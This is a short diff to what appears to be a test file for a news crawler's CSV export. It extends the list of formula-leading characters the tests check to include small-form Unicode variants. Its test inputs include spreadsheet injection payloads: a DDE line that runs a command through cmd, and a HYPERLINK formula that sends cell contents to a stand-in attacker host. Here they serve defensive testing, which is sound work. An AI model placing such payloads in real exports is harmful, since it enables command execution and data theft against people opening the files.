@@ -20,7 +20,7 @@ from newscrawl.export.csv_table import FORMULA, LONGEST, cell, inert, is_long, w
 from newscrawl.ledger.model import ExportedArticle
 from tests.support.archives import make_archive
 
-SIGNS = "=+-@＝＋－＠"
+SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
 BEFORE = ("", " ", "  ", "\u3000", "\xa0", '"', "'", "''", '" ', "`", "\u200b", "\ufeff", "\t", "\r\n")
 CALLS = ("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", '=HYPERLINK("https://evil.example/?"&A1)')
 PLAIN = ("利率", "1=1", "a@b.example", "3-5", "", " ", '["=1"]', "#1", "'a", "《=》", "2026-03-01T08:00:00+08:00")
